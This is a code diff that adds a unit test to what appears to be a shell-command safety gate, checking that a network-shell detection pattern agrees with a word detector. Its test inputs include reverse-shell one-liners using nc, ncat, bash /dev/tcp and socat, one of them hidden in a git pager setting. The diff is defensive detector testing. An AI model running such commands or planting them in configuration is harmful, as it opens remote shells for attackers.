@@ -47,3 +47,11 @@ def test_a_branch_with_no_literal_start_is_searched_only_where_its_literal_is() 
                  "BEARER abcd1234", "wifi toggle", "nothing here", "ſix now"]:
         want, got = search.whole.search(text), search.search(text, text_keys(text))
         assert (want and want.span()) == (got and got.span()), text
+
+
+def test_a_command_without_the_network_shell_words_has_no_network_shell_hint() -> None:
+    from gate.rules.shell_effects import _NET_SHELL_HINT, _net_shell_words
+
+    for text in ["git config core.pager 'nc 10.0.0.1 4444 -e /bin/sh'", "netcat -c sh host 1", "ncat.exe x -e cmd ",
+                 "bash -i >& /dev/tcp/1.2.3.4/80", "socat tcp:h:1 exec:sh", "git status", "rsync -a src/ dst/"]:
+        assert not _NET_SHELL_HINT.search(text) or _net_shell_words(text), text
